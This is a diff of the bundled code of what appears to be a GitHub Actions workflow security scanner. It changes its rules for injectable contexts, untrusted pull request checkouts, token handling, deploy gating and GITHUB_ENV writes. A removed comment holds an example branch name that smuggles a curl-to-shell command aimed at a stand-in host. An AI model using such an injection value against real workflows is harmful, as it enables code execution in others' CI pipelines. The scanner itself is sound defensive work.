+ * `actions/checkout`, one of GitHub's artifact and cache actions, or itself a fixed run
+ * ({@link idleStep}); an action may export anything.
+ */
+function fixedValue(inner, step, job, workflow, depth = 0) {
+    const text = inner.trim();
+    if (/^(?:secrets|vars)\.[A-Za-z_][\w-]*$/.test(text))
+        return true;
+    if (/^github\.[A-Za-z_][\w.-]*$/.test(text)) {
+        const path = text.split('.');
+        if (/^(?:inputs|client_payload)$/.test(path[2] ?? '') || path[1] === 'head_ref')
+            return false;
+        return classifyContext(path) === undefined;
+    }
+    const name = /^env\.([A-Za-z_][\w-]*)$/.exec(text)?.[1];
+    if (!name || !job || depth > 3)
+        return false;
+    const defined = [step.env, job.env, workflow?.env].find((map) => map?.entries.has(name));
+    const value = defined?.entries.get(name)?.value;
+    if (defined) {
+        if (typeof value !== 'string' && typeof value !== 'number' && typeof value !== 'boolean')
+            return false;
+        const ok = [...String(value).matchAll(checkout_credentials_EXPRESSION)].every((m) => fixedValue(m[1], step, job, workflow, depth + 1));
+        if (!ok)
+            return false;
+    }
+    const earlier = job.steps.slice(0, job.steps.indexOf(step));
+    if (job.steps.indexOf(step) === -1)
+        return false;
+    return earlier.every((s) => (0,shared/* actionOf */.qj)(s.uses) === 'actions/checkout' ||
+        (s.uses !== undefined && IDLE_ACTIONS.has((0,shared/* actionPathOf */.ps)(s.uses) ?? '')) ||
+        (s.run !== undefined && idleStep(s, job, workflow) !== undefined));
 }
 const WORKSPACE_EXPRESSION = /\$\{\{\s*github\.workspace\s*\}\}/g;
 const DOCKER = new Set(['docker']);
@@ -41090,144 +42524,6 @@ const workflowContainerCredentials = (0,types/* defineEvaluator */.D)({
 var parsers_shell = __nccwpck_require__(5582);
 // EXTERNAL MODULE: ./lib/core/evaluators/workflow/callers.js
 var workflow_callers = __nccwpck_require__(414);
-;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/contexts.js
-/**
- * Which expression contexts an outsider controls, and how much. Written from GitHub's webhook payload
- * documentation: a value is listed when someone without write access can choose it (by opening a
- * pull request, an issue, a comment, a discussion, or by naming a branch or writing a commit message
- * in a fork). Everything else — SHAs, numbers, ids, booleans, logins and repository names (whose
- * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source. Labels
- * are such values: only people with the triage role or above create a repository's labels and put
- * them on issues and pull requests (an issue form applies only labels that already exist).
- *
- * - `arbitrary`: free text, or a git name that can carry shell syntax without spaces
- *   (`a";curl${IFS}evil|sh;#` is a valid branch name).
- * - `structured`: a value with a validated syntax (a URL, an account e-mail address) that still
- *   admits characters a shell or script interprets.
- */
-const COMMIT = ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'];
-const ARBITRARY = [
-    'github.head_ref',
-    'github.event.pull_request.title',
-    'github.event.pull_request.body',
-    'github.event.pull_request.head.ref',
-    'github.event.pull_request.head.label',
-    'github.event.pull_request.head.repo.description',
-    'github.event.pull_request.head.repo.default_branch',
-    'github.event.pull_request.auto_merge.commit_title',
-    'github.event.pull_request.auto_merge.commit_message',
-    'github.event.issue.title',
-    'github.event.issue.body',
-    'github.event.comment.body',
-    'github.event.comment.path',
-    'github.event.comment.diff_hunk',
-    'github.event.review.body',
-    'github.event.discussion.title',
-    'github.event.discussion.body',
-    'github.event.answer.body',
-    'github.event.changes.**',
-    ...COMMIT.map((f) => `github.event.head_commit.${f}`),
-    ...COMMIT.map((f) => `github.event.commits.*.${f}`),
-    ...COMMIT.map((f) => `github.event.merge_group.head_commit.${f}`),
-    'github.event.pages.*.page_name',
-    'github.event.pages.*.title',
-    'github.event.workflow_run.head_branch',
-    'github.event.workflow_run.display_title',
-    'github.event.workflow_run.head_repository.description',
-    'github.event.workflow_run.pull_requests.*.head.ref',
-    ...COMMIT.map((f) => `github.event.workflow_run.head_commit.${f}`),
-    'github.event.check_suite.head_branch',
-    ...COMMIT.map((f) => `github.event.check_suite.head_commit.${f}`),
-    'github.event.check_run.check_suite.head_branch',
-    // repository_dispatch: bots commonly forward comment or pull request text here.
-    'github.event.client_payload.**',
-];
-const STRUCTURED = [
-    'github.event.pull_request.head.repo.homepage',
-    'github.event.workflow_run.head_repository.homepage',
-    'github.event.pusher.email',
-];
-/**
- * Values that name the code of a pull request (its head commit, branch or fork), used to recognise a
- * checkout of untrusted code in privileged workflows.
- */
-const HEAD = [
-    'github.head_ref',
-    'github.event.pull_request.head.sha',
-    'github.event.pull_request.head.ref',
-    'github.event.pull_request.head.label',
-    'github.event.pull_request.merge_commit_sha',
-    'github.event.pull_request.head.repo.full_name',
-    'github.event.pull_request.head.repo.clone_url',
-    'github.event.pull_request.head.repo.ssh_url',
-    'github.event.pull_request.head.repo.git_url',
-    'github.event.pull_request.head.repo.html_url',
-    'github.event.workflow_run.head_sha',
-    'github.event.workflow_run.head_branch',
-    'github.event.workflow_run.head_commit.id',
-    'github.event.workflow_run.head_repository.full_name',
-    'github.event.workflow_run.head_repository.clone_url',
-    'github.event.workflow_run.pull_requests.*.head.sha',
-    'github.event.workflow_run.pull_requests.*.head.ref',
-    'github.event.check_suite.head_sha',
-    'github.event.check_suite.head_branch',
-];
-const compile = (list, capability) => list.map((p) => ({ segments: p.split('.'), capability }));
-const INJECTABLE = [...compile(ARBITRARY, 'arbitrary'), ...compile(STRUCTURED, 'structured')];
-const HEAD_PATTERNS = compile(HEAD, 'arbitrary');
-/** How attacker-controlled a context path is, or undefined when it is not a source. */
-function classifyContext(path) {
-    return classifyWith(INJECTABLE, path);
-}
-/** Whether a context path names the head (code) of a pull request or of a triggering run. */
-function classifyHeadRef(path) {
-    return classifyWith(HEAD_PATTERNS, path);
-}
-function classifyWith(patterns, path) {
-    let exact;
-    let contained;
-    for (const p of patterns) {
-        const m = match(p.segments, path);
-        if (m === 'exact')
-            exact = worst(exact, p.capability);
-        else if (m === 'prefix')
-            contained = worst(contained, p.capability);
-    }
-    // A filter (`.*`) turns a value into an array of such values.
-    const filtered = path.includes('*');
-    if (exact)
-        return { capability: exact, collection: filtered };
-    if (contained)
-        return { capability: contained, collection: true };
-    return undefined;
-}
-/** `exact` when the path is the pattern, `prefix` when it is an object that contains it. */
-function match(pattern, path) {
-    for (let i = 0; i < path.length; i++) {
-        const want = pattern[i];
-        if (want === undefined)
-            return undefined;
-        if (want === '**')
-            return 'exact';
-        const got = path[i];
-        if (want === '*') {
-            if (got !== '*' && got !== '#' && got !== '?' && !/^\d+$/.test(got))
-                return undefined;
-            continue;
-        }
-        // A filter (`github.event.*.body`) or a computed index reaches every key, this one included;
-        // not a free-form payload (`client_payload.**`), whose keys are anyone's guess.
-        if (got === '*' && pattern[i + 1] === '**')
-            return undefined;
-        if (got !== want && got !== '?' && got !== '*')
-            return undefined;
-    }
-    return path.length === pattern.length ? 'exact' : 'prefix';
-}
-function worst(a, b) {
-    return a === 'arbitrary' || b === 'arbitrary' ? 'arbitrary' : 'structured';
-}
-
 // EXTERNAL MODULE: ./lib/core/evaluators/workflow/script-memo.js
 var script_memo = __nccwpck_require__(3730);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/head-lookup.js
@@ -41632,7 +42928,10 @@ class Dataflow {
         if (!job || !entry)
             return [];
         const hop = this.hop(`needs.${job.id}.outputs.${entry[0]}`, scope.source, entry[1]);
-        return this.value({ source: scope.source, job, level: 'job' }, entry[1].pointer, hop, depth + 1);
+        // Outputs are evaluated once every step has run: `env.NAME` there reads what any step wrote to
+        // `$GITHUB_ENV` (`outputs: { ref: ${{ env.REF }} }`), as a step after them all would.
+        const after = { source: scope.source, job, stepIndex: job.steps.length, level: 'job' };
+        return this.value(after, entry[1].pointer, hop, depth + 1);
     }
     input(name, scope, depth) {
         const { source } = scope;
@@ -42514,7 +43813,8 @@ const GITHUB_READERS = /^actions\/(?:setup-(?:node|python|go|java|dotnet)|cache(
 /**
  * Whether no step of a job is handed its GITHUB_TOKEN, though it may run a build: every step that
  * takes a token is given a secret of its own instead (a checkout's `token:`, an action's `token:` or
- * `github-token:`, an App's `private-key:` to actions/create-github-app-token), and at least one is
+ * `github-token:`, an App's `private-key:` to actions/create-github-app-token, a script that calls
+ * with a secret written into it or set in its step's `env:`), and at least one is
  * (with `readOnly`, for a token that can only read, none need be: a job whose steps take no token
  * hands it to nothing either), the token of no checkout is left on disk while anything but
  * GitHub's own actions, the inert commands and image builds of {@link inertJob} runs after it, and
@@ -42528,7 +43828,8 @@ function tokenWithheld(workspace, job, workflow, options = {}) {
     if (job.uses || job.steps.length === 0)
         return undefined;
     // No action is handed a secret in the token's place (most jobs): decided before any script is read.
-    if (!options.readOnly && !job.steps.some((s) => s.uses !== undefined && ownToken(s, job, workflow)))
+    if (!options.readOnly &&
+        !job.steps.some((s) => (s.uses !== undefined ? ownToken(s, job, workflow) : scriptOwnToken(s))))
         return undefined;
     if ([workflow.env, job.env, job.container?.credentials, ...job.services.map((s) => s.credentials)].some(token_use_mentionsToken))
         return undefined;
@@ -42542,6 +43843,8 @@ function tokenWithheld(workspace, job, workflow, options = {}) {
         if (step.run) {
             if (shared/* JOB_TOKEN */.IK.test(step.run.value))
                 return undefined;
+            if (scriptOwnToken(step))
+                found.replaced.push(`the script of step ${label(step)}`);
             // A step that may run a file of the tree, when the job's token is on disk.
             if (onDisk && (loads || loadsCode(step.env)))
                 return undefined;
@@ -42583,6 +43886,24 @@ function tokenWithheld(workspace, job, workflow, options = {}) {
     }
     return found.replaced.length > 0 || options.readOnly ? found : undefined;
 }
+/**
+ * Whether a script that calls GitHub is given a secret other than the job's token as its token:
+ * written into a script that names GitHub's host (`curl -H "Authorization: Bearer ${{ secrets.PAT }}"
+ * https://api.github.com/...`), or as the variable `gh` reads (`GH_TOKEN`, `GITHUB_TOKEN`) in its
+ * step's `env:`. Its calls authenticate with that secret, not with the job's token, which no step
+ * names (checked apart). A secret for another service (a webhook's URL) takes no token's place.
+ */
+function scriptOwnToken(step) {
+    if (!step.run)
+        return false;
+    if (ownSecret(step.run.value) && GITHUB_HOST.test(step.run.value))
+        return true;
+    return [...(step.env?.entries ?? [])].some(([k, v]) => GH_TOKEN_VARIABLE.test(k) && typeof v.value === 'string' && ownSecret(v.value));
+}
+/** GitHub's host in a URL (its API's included). */
+const GITHUB_HOST = /\b(?:api\.)?github\.com\b/i;
+/** The variables `gh` takes its token from. */
+const GH_TOKEN_VARIABLE = /^(?:GH_TOKEN|GITHUB_TOKEN|GH_ENTERPRISE_TOKEN|GITHUB_ENTERPRISE_TOKEN)$/i;
 /**
  * Whether an action is handed a secret other than the job's token as its token; GitHub's own
  * actions/create-github-app-token, a GitHub App's private key to make one from. The secret may come
@@ -43230,7 +44551,10 @@ const workflowDangerousTriggers = (0,types/* defineEvaluator */.D)({
                         for (const step of job.steps) {
                             if (excludesOutsiders(step.if, repository))
                                 continue;
-                            const gate = environmentGate(workflow, job);
+                            const ownGate = environmentGate(workflow, job);
+                            // A reusable workflow whose every privileged caller waits for an environment.
+                            const gate = ownGate ?? (via !== '' ? callerEnvironmentGate(workspace, workflow) : undefined);
+                            const gateWhere = gate && !ownGate ? ' (its caller does)' : '';
                             const check = gate ? undefined : checkGate(workspace, workflow, job, via !== '');
                             const member = gate || check ? undefined : membershipGate(workflow, job, step);
                             const token = jobTokenWrites(workflow, job)
@@ -43254,6 +44578,9 @@ const workflowDangerousTriggers = (0,types/* defineEvaluator */.D)({
                             for (const hit of headCheckoutsOf(workspace, flow, workflow, job, step)) {
                                 // A tree nothing runs (its commit read, and no step after): no code of the pull request runs.
                                 if (treeNeverRun(workflow, job, step, hit.command, FETCH_ONLY.test(hit.what)))
+                                    continue;
+                                // A branch switched to in a clone of another repository is a name there, not the head.
+                                if (inOtherRepository(workflow, job, step, hit, repository))
                                     continue;
                                 critical += 1;
                                 // A folder beside the base's tree that later steps only hand to the base's tools as data.
@@ -43281,7 +44608,7 @@ const workflowDangerousTriggers = (0,types/* defineEvaluator */.D)({
                                             : `checks out the pull request's code (${hit.what}); any build script, ` +
                                                 'test or action in that code runs with those privileges.') +
                                         (gate
-                                            ? ` It waits for the "${gate}" environment: if that environment requires a reviewer, each run is approved by a maintainer, who must read the code first.`
+                                            ? ` It waits for the "${gate}" environment${gateWhere}: if that environment requires a reviewer, each run is approved by a maintainer, who must read the code first.`
                                             : check
                                                 ? ` It waits for job "${check.job}"${check.where}, which by its name checks who may run it; ${check.seen}: if it lets only maintainers' pull requests through, outsiders cannot run their code here.`
                                                 : member?.sound
@@ -43530,13 +44857,30 @@ function checkGate(workspace, workflow, job, throughCallers) {
     const own = gateIn(workflow, job);
     if (own || !throughCallers)
         return own;
-    // The callers through which outsiders reach it: those on a privileged event, or called in turn.
-    const callers = (0,workflow_callers/* localCallers */.ch)(workspace, workflow.path).filter((c) => c.source.kind === 'workflow' &&
-        c.job &&
-        (c.source.on?.events ?? []).some((e) => PRIVILEGED_RUNS.has(e.event) || e.event === 'workflow_call'));
+    const callers = privilegedCallers(workspace, workflow);
     if (callers.length === 0)
         return undefined;
     const gates = callers.map((c) => gateIn(c.source, c.job));
+    return gates.every((g) => g !== undefined) ? gates[0] : undefined;
+}
+/** The calling jobs through which outsiders reach a reusable workflow: on a privileged event, or called in turn. */
+function privilegedCallers(workspace, workflow) {
+    return (0,workflow_callers/* localCallers */.ch)(workspace, workflow.path)
+        .filter((c) => c.source.kind === 'workflow' &&
+        c.job &&
+        (c.source.on?.events ?? []).some((e) => PRIVILEGED_RUNS.has(e.event) || e.event === 'workflow_call'))
+        .map((c) => ({ source: c.source, job: c.job }));
+}
+/**
+ * The environment every calling job through which outsiders reach a reusable workflow waits for
+ * (its own, or that of a job it needs): the call, and so every job of the called workflow, starts
+ * only once that environment lets it.
+ */
+function callerEnvironmentGate(workspace, workflow) {
+    const callers = privilegedCallers(workspace, workflow);
+    if (callers.length === 0)
+        return undefined;
+    const gates = callers.map((c) => environmentGate(c.source, c.job));
     return gates.every((g) => g !== undefined) ? gates[0] : undefined;
 }
 /**
@@ -43787,13 +45131,88 @@ function jobMembershipGate(workflow, job, seen) {
         if (found)
             return found;
     }
+    // A job that must have succeeded (`needs.x.result == 'success'`, required by the condition even
+    // beside `always()`), or one of several that must, each gated or never run on these events.
+    for (const c of conjuncts(conditionTree(job.if))) {
+        const alternatives = c.kind === 'or' ? c.args : [c];
+        const ids = alternatives.map((a) => succeededJob(a));
+        if (ids.some((id) => id === undefined || !needed.some((n) => n.toLowerCase() === id)))
+            continue;
+        const gates = ids.map((id) => {
+            const up = upstream(id);
+            if (!up)
+                return undefined;
+            const events = runEvents(workflow, up);
+            if (events && !events.some((e) => PRIVILEGED_RUNS.has(e)))
+                return 'idle';
+            return failingCheck(up) ?? jobMembershipGate(workflow, up, new Set(seen));
+        });
+        const found = gates.find((g) => g !== undefined && g !== 'idle');
+        if (found && gates.every((g) => g !== undefined) && typeof found === 'object')
+            return found;
+    }
     if (runsPastFailures(job.if))
         return undefined;
     for (const id of needed) {
         const up = workflow.jobs.find((j) => j.id === id);
-        const found = up && jobMembershipGate(workflow, up, seen);
+        const found = up && (failingCheck(up) ?? jobMembershipGate(workflow, up, seen));
         if (found)
             return found;
+    }
+    return undefined;
+}
+/** The job a part requires to have succeeded (`needs.x.result == 'success'`), lower-cased. */
+function succeededJob(node) {
+    if (node.kind !== 'compare' || node.op !== '==')
+        return undefined;
+    for (const [a, b] of [
+        [node.left, node.right],
+        [node.right, node.left],
+    ]) {
+        if (a.kind === 'ref' &&
+            a.path.length === 3 &&
+            a.path[0] === 'needs' &&
+            a.path[2] === 'result' &&
+            b.kind === 'literal' &&
+            String(b.value).toLowerCase() === 'success')
+            return a.path[1];
+    }
+    return undefined;
+}
+/**
+ * Actions that fail their step unless who acted has a permission on the repository, and the input
+ * that sets it (with its default): `xt0rted/slash-command-action` checks the commenter's
+ * `permission-level` (write by default).
+ */
+const PERMISSION_FAILING_ACTIONS = {
+    'xt0rted/slash-command-action': { input: 'permission-level', fallback: 'write' },
+};
+/**
+ * A step of the job, run whatever came before (no `if:`, no `continue-on-error`), of an action that
+ * fails unless who acted has write, maintain or admin permission: the job fails without it.
+ */
+function failingCheck(job) {
+    if (runsPastFailures(job.if))
+        return undefined;
+    for (const step of job.steps) {
+        if (step.if !== undefined)
+            continue;
+        const coe = step.value['continue-on-error'];
+        if (coe !== undefined && coe !== false && String(coe).trim() !== 'false')
+            continue;
+        const action = (0,shared/* actionOf */.qj)(step.uses)?.toLowerCase();
+        const known = action ? PERMISSION_FAILING_ACTIONS[action] : undefined;
+        if (!known)
+            continue;
+        const level = (0,shared/* input */.hF)(step, known.input)?.value ?? known.fallback;
+        if (typeof level !== 'string' || !/^\s*(?:write|maintain|admin)\s*$/i.test(level))
+            continue;
+        return {
+            step: typeof step.id?.value === 'string' ? step.id.value : (0,shared/* stepLabel */.vO)(step),
+            job: job.id,
+            action: step.uses.value.replace(/@.*$/, ''),
+            how: `which fails the job unless who commented has ${level.trim()} permission, passes`,
+        };
     }
     return undefined;
 }
@@ -43842,6 +45261,80 @@ function stepOutput(ref, job, before) {
         action: step.uses.value.replace(/@.*$/, ''),
         how: NAMED_CHECK,
     };
+}
+/** git commands that only move between what the clone already holds (they bring no commits in). */
+const LOCAL_SWITCH = /^git\s+(?:checkout|switch)\b/;
+/** git subcommands that bring commits in from elsewhere, or name where to fetch them from. */
+const GIT_FETCHES = new Set(['fetch', 'pull', 'remote', 'clone', 'submodule']);
+/** A `git fetch`/`pull`/`remote`/`clone`/`submodule` (any options before it) or `gh pr checkout`. */
+function fetchesCommits(view) {
+    const words = view.command.words.slice(view.nameIndex + 1).map((w) => w.value);
+    if (view.name === 'gh')
+        return words[0] === 'pr' && words[1] === 'checkout';
+    if (view.name !== 'git')
+        return false;
+    return words.some((w) => GIT_FETCHES.has(w));
+}
+/**
+ * Whether a script's `git checkout`/`git switch` of a head name runs in the work tree of a clone of
+ * another repository: the last `actions/checkout` of the job into the step's directory (its
+ * `working-directory:` and the literal `cd`s before the command) names a fixed repository, written
+ * out, that is not this one (so the run's repository must be known), and nothing in the job from
+ * that checkout to the command fetches, pulls or adds a remote, so the clone holds only that
+ * repository's commits: a branch of the pull request's name there is that repository's (or a new
+ * one), none of the pull request's code.
+ */
+function inOtherRepository(workflow, job, step, hit, repository) {
+    if (!repository || !step.run || !hit.command || !LOCAL_SWITCH.test(hit.what))
+        return false;
+    const dir = [
+        step.value['working-directory'],
+        job.defaults?.workingDirectory?.value,
+        workflow.defaults?.workingDirectory?.value,
+    ].find((d) => d !== undefined);
+    let cwd = dir === undefined ? '' : typeof dir === 'string' ? relativePath('', dir) : undefined;
+    const views = (0,shell_commands/* scriptCommands */.q8)(step.run.value);
+    for (const view of views) {
+        if (view.command.start >= hit.command[0] || cwd === undefined)
+            break;
+        if (fetchesCommits(view))
+            return false;
+        if (view.name === 'popd')
+            cwd = undefined;
+        if (view.name !== 'cd' && view.name !== 'pushd')
+            continue;
+        const args = view.command.words.slice(view.nameIndex + 1).filter((w) => !w.value.startsWith('-'));
+        cwd =
+            args.length === 1 && !/[$`*?~]/.test(args[0].value)
+                ? relativePath(cwd ?? '', args[0].value)
+                : undefined;
+    }
+    if (cwd === undefined)
+        return false;
+    for (let i = step.index - 1; i >= 0; i--) {
+        const earlier = job.steps[i];
+        if (earlier.run) {
+            if (/\bgit\b[^\n]*\b(?:fetch|pull|remote|clone|submodule)\b|\bgh\s+pr\s+checkout\b/.test(earlier.run.value))
+                return false;
+            continue;
+        }
+        if ((0,shared/* actionOf */.qj)(earlier.uses) !== 'actions/checkout') {
+            if (earlier.uses)
+                return false;
+            continue;
+        }
+        const path = (0,shared/* input */.hF)(earlier, 'path')?.value;
+        const into = path === undefined ? '' : typeof path === 'string' ? relativePath('', path) : undefined;
+        if (into === undefined)
+            return false;
+        if (into !== cwd)
+            continue;
+        const repo = (0,shared/* input */.hF)(earlier, 'repository')?.value;
+        return (typeof repo === 'string' &&
+            /^[\w.-]+\/[\w.-]+$/.test(repo.trim()) &&
+            repo.trim().toLowerCase() !== repository.toLowerCase());
+    }
+    return false;
 }
 /**
  * A hit that fetches the head (`git fetch origin pull/N/head:pr-N`): it brings the commits into the
@@ -44207,12 +45700,20 @@ const workflowDeployEnvironment = (0,types/* defineEvaluator */.D)({
                 if (!why)
                     return;
                 subjects.add(workflow.path);
+                // A GitHub Pages site that a documentation generator builds: the project's documentation.
+                const docs = release && PAGES_ACTIONS.has((0,shared/* actionPathOf */.ps)(release.step.uses) ?? '')
+                    ? docsBuild(workflow, job)
+                    : undefined;
                 findings.push({
                     message: `Job "${job.id}" deploys to production (${why}) without "environment:", so no required reviewer, ` +
                         'wait timer or branch rule can gate it and it is not recorded as a deployment. Add "environment: production" ' +
-                        'and configure its protection rules.',
+                        'and configure its protection rules.' +
+                        (docs
+                            ? ` The site is the project's documentation, built by step "${(0,shared/* stepLabel */.vO)(docs)}" with a documentation generator: whoever can change the documentation's sources can change the site already, and an environment's reviewers add little.`
+                            : ''),
                     location: (0,core_location/* locationFromSpan */.Cx)(workflow.path, job.span, true),
                     key: job.id,
+                    ...(docs ? { severity: 'low' } : {}),
                 });
             },
         });
@@ -44220,6 +45721,33 @@ const workflowDeployEnvironment = (0,types/* defineEvaluator */.D)({
         return findings;
     },
 });
+/** Actions that publish a GitHub Pages site. */
+const PAGES_ACTIONS = new Set([
+    'actions/deploy-pages',
+    'peaceiris/actions-gh-pages',
+    'jamesives/github-pages-deploy-action',
+]);
+/**
+ * A command that builds documentation: MkDocs (and mike), Sphinx, mdBook, Antora, Docusaurus,
+ * TypeDoc, pdoc, `cargo doc`, or a Makefile's `docs`/`doc` target. Not a general site generator
+ * (Hugo, Jekyll, a web app's build), whose site may be the product.
+ */
+const DOCS_BUILD = /(?<![\w-])(?:mkdocs\s+build|mike\s+deploy|sphinx-build|mdbook\s+build|antora|docusaurus\s+build|typedoc|pdoc|cargo\s+doc|make\s+(?:-C\s+\S+\s+)?(?:docs?|html)(?![\w-]))/;
+/**
+ * The step that builds documentation ({@link DOCS_BUILD}) in the publishing job or in a job it
+ * needs directly (where actions/deploy-pages publishes what another job built), if any.
+ */
+function docsBuild(workflow, job) {
+    const needs = job.needs?.value;
+    const ids = new Set(typeof needs === 'string' ? [needs] : Array.isArray(needs) ? needs.map(String) : []);
+    const jobs = workflow.kind === 'workflow' ? [job, ...workflow.jobs.filter((j) => ids.has(j.id))] : [job];
+    for (const j of jobs) {
+        const step = j.steps.find((s) => s.run !== undefined && (0,shell/* firstRealCommand */.Oh)(s.run.value, DOCS_BUILD));
+        if (step)
+            return step;
+    }
+    return undefined;
+}
 /**
  * A job named for telling others about a deployment rather than for doing one: `notify-sentry-deploy`
  * (a monitoring service's deploy marker), `deploy-notification`, "Report deployment status",
@@ -44447,6 +45975,7 @@ function envWrites(script) {
         const file = target[i];
         if (file) {
             const checked = checkedVariables(lines, i, assignedAt);
+            const stripped = checked?.filter((name) => stripsLineBreaks(lines[assignedAt.get(name)].text, name));
             out.push({
                 file,
                 start: l.start,
@@ -44455,6 +45984,7 @@ function envWrites(script) {
                 ...sources,
                 randomDelimiter: random,
                 ...(checked ? { checked } : {}),
+                ...(stripped?.length ? { stripped } : {}),
             });
             continue;
         }
@@ -44484,6 +46014,8 @@ function checkedVariables(lines, at, assignedAt) {
         const from = assignedAt.get(name);
         if (from === undefined)
             return false;
+        if (stripsLineBreaks(lines[from].text, name))
+            return true;
         for (let k = from + 1; k < at; k++)
             if (guardedBy(lines, k, name))
                 return true;
@@ -44518,6 +46050,34 @@ function guardedBy(lines, k, name) {
     const inline = new RegExp(`^\\s*\\[\\[\\s*${v}\\s*=~\\s*(\\S+)\\s*\\]\\]\\s*\\|\\|\\s*exit\\s+[1-9]`).exec(text);
     return inline !== null && strictPattern(inline[1]);
 }
+/**
+ * Whether an assignment line sets `name` to one command substitution whose last command deletes or
+ * translates every line feed: `NAME=$(... | tr '\n' ' ')`, `NAME=$(... | tr -d '\n')` (also
+ * `'\r\n'`). The runner splits the file at line feeds only (a lone carriage return ends no line), so
+ * such a value defines no further variable. Only `tr` given fixed sets, as the pipeline's last
+ * command, with nothing after the substitution's closing parenthesis.
+ */
+function stripsLineBreaks(line, name) {
+    const m = new RegExp(`^\\s*(?:export\\s+|local\\s+)?${name}=["']?\\$\\((.*)\\)["']?\\s*(?:;\\s*)?$`).exec(line);
+    const inner = m?.[1];
+    // One pipeline: no list (`||`, `&&`, `;`, `&`), no backquote, and no parenthesis closed at the
+    // top level (`$(a) $(b | tr ...)` is two substitutions, the first not stripped).
+    if (inner === undefined || /\|\||&|;|`|\n/.test(inner))
+        return false;
+    let depth = 0;
+    for (const c of inner) {
+        if (c === '(')
+            depth++;
+        else if (c === ')' && --depth < 0)
+            return false;
+    }
+    const last = inner.split('|').at(-1).trim();
+    return TR_DELETE.test(last) || TR_TRANSLATE.test(last);
+}
+/** `tr -d` of a set that holds the line feed. */
+const TR_DELETE = /^tr\s+-d\s+(['"])(?:\\r)?\\n(?:\\r)?\1$/;
+/** `tr` of the line feed alone into one character that is none. */
+const TR_TRANSLATE = /^tr\s+(['"])\\n\1\s+(['"])(?:[^\\'"\n]|\\t)\2$/;
 /** POSIX character classes that hold no line break. */
 const SAFE_CLASSES = new Set(['alnum', 'alpha', 'digit', 'lower', 'upper', 'xdigit', 'word']);
 /** An unquoted bash ERE anchored at both ends whose every part matches no line break. */
@@ -44619,8 +46179,9 @@ function fileOf(m) {
  *   artifact (`$(cat pr.txt)`): high.
  * Branch names, labels and other values that cannot hold a line break are not reported, and neither is
  * a `NAME<<$DELIMITER` block whose delimiter the script makes at random. A write of variables the
- * script first checks against an anchored pattern that admits no line break, exiting otherwise, is
- * low confidence.
+ * script first checks against an anchored pattern that admits no line break, exiting otherwise, or
+ * sets from a command substitution whose last command strips every line feed (`| tr '\n' ' '`,
+ * `| tr -d '\n'`), is low confidence.
  */
 const workflowGithubEnv = (0,types/* defineEvaluator */.D)({
     kind: 'workflow.github-env',
@@ -44667,8 +46228,16 @@ const workflowGithubEnv = (0,types/* defineEvaluator */.D)({
                     // Every variable the line writes is checked against an anchored pattern that admits no
                     // line break, and the script exits otherwise: low, shown to auditors, as the check is read
                     // from the script's text.
+                    const patterns = w.checked?.filter((n) => !w.stripped?.includes(n)) ?? [];
                     const checked = w.checked
-                        ? ` The script first checks ${w.checked.map((n) => `$${n}`).join(', ')} against an anchored pattern that admits no line break, and exits otherwise.`
+                        ? [
+                            patterns.length > 0
+                                ? ` The script first checks ${patterns.map((n) => `$${n}`).join(', ')} against an anchored pattern that admits no line break, and exits otherwise.`
+                                : '',
+                            w.stripped
+                                ? ` The script sets ${w.stripped.map((n) => `$${n}`).join(', ')} through tr, which deletes or replaces every line feed (the runner ends a line at a line feed only).`
+                                : '',
+                        ].join('')
                         : '';
                     findings.push({
                         message: github_env_message(w, found.what) + checked,
@@ -45359,7 +46928,8 @@ const OUTPUT_INPUT = /^(?:output|output-file|output-path|report|report-path|repo
 /**
  * What a later step of the job reads of the check's results: the file its command or action writes
  * the report to (`--report-path x.json`, `-o x`, `> x.json`, an `output:` input), named in a later
- * step's script or inputs, or its outputs (`steps.<id>.outputs`); undefined when no later step does.
+ * step's script or inputs, or its outputs or outcome (`steps.<id>.outputs`, `steps.<id>.outcome` or
+ * `.conclusion`, also in the later step's `if:`); undefined when no later step does.
  */
 function reportReadAfter(steps, step) {
     const files = new Set();
@@ -45389,15 +46959,21 @@ function reportReadAfter(steps, step) {
             typeof later.run?.value === 'string' ? later.run.value : '',
             ...[...(later.with?.entries.values() ?? [])].map((n) => String(n.value ?? '')),
             ...[...(later.env?.entries.values() ?? [])].map((n) => String(n.value ?? '')),
+            // Its condition: a step that runs on the check's outcome (`steps.<id>.outcome == 'failure'`).
+            typeof later.if?.value === 'string' ? later.if.value : '',
         ];
         for (const file of files) {
             const name = file.replace(/^.*\//, '');
             if (name.length > 2 && texts.some((t) => t.includes(name)))
                 return file;
         }
-        if (id &&
-            texts.some((t) => new RegExp(`steps\\.${id.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\.outputs`).test(t)))
-            return `steps.${id}.outputs`;
+        const read = id
+            ? texts
+                .map((t) => new RegExp(`steps\\.${id.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\.(outputs|outcome|conclusion)\\b`).exec(t)?.[1])
+                .find(Boolean)
+            : undefined;
+        if (read)
+            return `steps.${id}.${read}`;
     }
     return undefined;
 }
@@ -46133,7 +47709,7 @@ function workflowWrites(workspace, fixes, workflow, inheriting) {
         const reason = whyFor(scope);
         if (!reason)
             return [];
-        const grade = pullRequestGrade(workflow, scope) ??
+        const grade = pullRequestGrade(workspace, workflow, scope) ??
             pullRequestJobs(workflow, inheriting, scope) ??
             githubActionsJobs(workflow, inheriting, scope);
         const found = {
@@ -46172,12 +47748,15 @@ function unsureWrite(job, workflow) {
  * The grade of a workflow that runs on pull requests only (not `pull_request_target`): a fork's run
  * gets a read-only token whatever the workflow asks for, so the write access it grants (or leaves to
  * the default) reaches only the runs of branches of this repository, whose authors can push already.
- * A granted `security-events: write` still lets a fork's run read code scanning alerts.
+ * A granted `security-events: write` still lets a fork's run read code scanning alerts. A reusable
+ * workflow (`workflow_call`) is judged by the events that run it here, its callers' in this repository
+ * (callers.ts): one that callers elsewhere run gets their token, not this repository's.
  */
-function pullRequestGrade(workflow, scope) {
+function pullRequestGrade(workspace, workflow, scope) {
     if (scope?.toLowerCase() === 'security-events')
         return undefined;
-    const events = [...(0,shared/* eventsOf */.XL)(workflow)];
+    const own = (0,shared/* eventsOf */.XL)(workflow);
+    const events = own.has('workflow_call') ? (0,workflow_callers/* eventsHere */.wG)(workspace, workflow) : [...own];
     const prOnly = events.length > 0 && events.every((e) => shared/* PR_EVENTS */.l.has(e) && e !== 'pull_request_target');
     return prOnly
